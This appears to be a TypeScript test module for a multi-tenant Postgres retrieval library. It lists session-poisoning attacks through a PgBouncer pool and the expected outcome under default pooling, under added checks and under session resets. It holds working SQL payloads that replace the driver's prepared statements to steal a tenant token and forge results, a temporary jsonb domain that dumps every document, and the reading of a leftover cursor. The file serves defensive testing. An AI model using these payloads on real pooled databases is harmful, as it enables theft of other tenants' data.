/** What a client can leave on a pooled session to act in the transactions of the next, and what comes of it. */

import type { Sql } from 'postgres';
import type { Tenant } from '../../../src/client/handle.js';
import type { Session } from './session.js';
import { forTenant } from './session.js';

/** The answer to the victim's search, and what there was to be got besides; or the SQLSTATE instead. */
export interface Outcome {
  readonly answer: string[] | string;
  readonly got: unknown;
}

/** The clients that share one server connection, and `apart`, which does not. */
interface Clients {
  /** Whoever sends SQL of their own. */
  readonly mallory: Sql;
  /** The tenant that is attacked. It has searched before on this connection. */
  readonly acme: Tenant;
  readonly apart: Session;
}

export interface Poisoning {
  readonly title: string;
  poison(clients: Clients): Promise<unknown>;
  /** After the victim's next search. */
  got(clients: Clients): Promise<unknown>;
  /** Where PgBouncer has its defaults. */
  readonly works: Outcome;
  /** There, if `set_tenant_from_token()` checks what is left on its session; like `works` if left out. */
  readonly checked?: Outcome;
  /** Where PgBouncer resets. */
  readonly closed: Outcome;
}

const secrets = ['acme secret 0', 'acme secret 1', 'acme secret 2'];
const question = [1, ...Array<number>(1535).fill(0)];

/** What `answer` comes to, or the SQLSTATE of its refusal. */
export const orCode = <T>(answer: Promise<T>): Promise<T | string> => answer.catch(({ code }) => code);
/** All values of a statement that is sent without being prepared. */
export const values = async (sql: { unsafe: Sql['unsafe'] }, text: string) =>
  (await sql.unsafe(text)).flatMap((row) => Object.values(row));
const read = (tenant: Tenant, text: string) => tenant.transaction((tx) => values(tx.sql, text));
/** The contents of the documents that a search finds: all of the tenant's. */
export const search = async (tenant: Tenant) =>
  (await tenant.matchDocuments(question, { filter: { tenant: 'acme' } })).map(({ content }) => content);
const loot = async (mallory: Sql) =>
  `${(await values(mallory, `select current_setting('mallory.loot', true)`))[0] ?? ''}`;

/** Has `body` run, with the parameters of the victim's search, when the victim searches. */
async function swapSearch(mallory: Sql, body: string) {
  const [known] = await values(
    mallory,
    `select name from pg_prepared_statements where statement ~ 'from ragwall.search_with_token' and not from_sql`,
  );
  const guesses = Array.from({ length: 200 }, (_, n) => `PGBOUNCER_${n}`);
  if (known) await mallory.unsafe(`deallocate "${known}"`);
  for (const name of known ? [known] : guesses) {
    await mallory.unsafe(`prepare "${name}" (text, text, text, text) as ${body}`);
  }
}

export const poisonings: readonly Poisoning[] = [
  {
    title: 'a statement in place of the driver’s forges the answer and takes the token',
    poison: ({ mallory }) =>
      swapSearch(
        mallory,
        `select 'acme', gen_random_uuid(), null, null, 'forged', '{}'::jsonb, 1::float8
        where set_config('mallory.loot', $1, false) <> ''`,
      ),
    got: async ({ mallory, apart }) => {
      const token = await loot(mallory);
      return orCode(search(forTenant(apart.app, 'acme', { signer: async () => token })));
    },
    works: { answer: ['forged'], got: secrets },
    closed: { answer: secrets, got: 'RW005' },
  },
  {
    title: 'a statement in place of the driver’s reads in the victim’s transaction',
    poison: ({ mallory }) =>
      swapSearch(
        mallory,
        `select tenant, d.id, d.source, d.position, d.content, d.metadata, 1::float8
        from ragwall.set_tenant_from_token($1) as bound (tenant)
        cross join lateral (select * from ragwall.documents where bound.tenant is not null) as d
        where set_config(
          'mallory.loot', concat_ws(',', current_setting('mallory.loot', true), d.content), false
        ) <> ''`,
      ),
    got: ({ mallory }) => loot(mallory),
    works: { answer: secrets, got: secrets.join() },
    checked: { answer: 'RW007', got: '' },
    closed: { answer: secrets, got: '' },
  },
  {
    title: 'with TEMP, a type named jsonb reads in the victim’s own SQL, and not in our client’s',
    poison: async ({ mallory, apart }) => {
      await apart.admin((sql) => sql`grant temporary on database ragwall to app_user`);
      await mallory.unsafe(`create domain pg_temp.jsonb as pg_catalog.jsonb check (set_config(
        'mallory.loot', query_to_xml('select content from ragwall.documents', true, false, '')::text, false
      ) <> '')`);
    },
    got: async ({ mallory, acme }) => {
      const client = await loot(mallory);
      await orCode(read(acme, `select '{}'::jsonb`));
      return [client, (await loot(mallory)).match(/acme secret \d/g)];
    },
    works: { answer: secrets, got: ['', secrets] },
    checked: { answer: 'RW007', got: ['', null] },
    closed: { answer: secrets, got: ['', null] },
  },
  {
    title: 'a cursor that the victim left open is read',
    poison: ({ acme }) => read(acme, 'declare mine cursor with hold for select content from ragwall.documents'),
    got: ({ mallory }) => orCode(values(mallory, 'fetch all from mine')),
    works: { answer: secrets, got: secrets },
    checked: { answer: 'RW007', got: secrets },
    closed: { answer: secrets, got: '34000' },
  },
  {
    title: 'a setting fails the victim’s search',
    poison: ({ mallory }) => mallory.unsafe('set row_security = off'),
    got: ({ mallory }) => values(mallory, 'show row_security'),
    works: { answer: '42501', got: ['off'] },
    closed: { answer: secrets, got: ['on'] },
  },
  {
    title: 'other settings stay, and the search is right because its functions have their own',
    poison: ({ mallory }) => mallory.unsafe(`set search_path = pg_temp; set hnsw.ef_search = 1`),
    got: ({ mallory }) => values(mallory, `select current_setting('hnsw.ef_search', true)`),
    works: { answer: secrets, got: ['1'] },
    closed: { answer: secrets, got: ['40'] },
  },
  {
    title: 'a name that the victim executes is taken',
    poison: ({ mallory }) => mallory.unsafe(`prepare answers as select 'forged'`),
    got: ({ acme }) => orCode(read(acme, 'execute answers')),
    works: { answer: secrets, got: ['forged'] },
    checked: { answer: 'RW007', got: 'RW007' },
    closed: { answer: secrets, got: '26000' },
  },
  {
    title: 'a channel is listened to on the victim’s session',
    poison: ({ mallory }) => mallory.unsafe('listen jobs'),
    got: ({ acme }) => orCode(read(acme, 'select pg_listening_channels()')),
    works: { answer: secrets, got: ['jobs'] },
    checked: { answer: 'RW007', got: 'RW007' },
    closed: { answer: secrets, got: [] },
  },
];
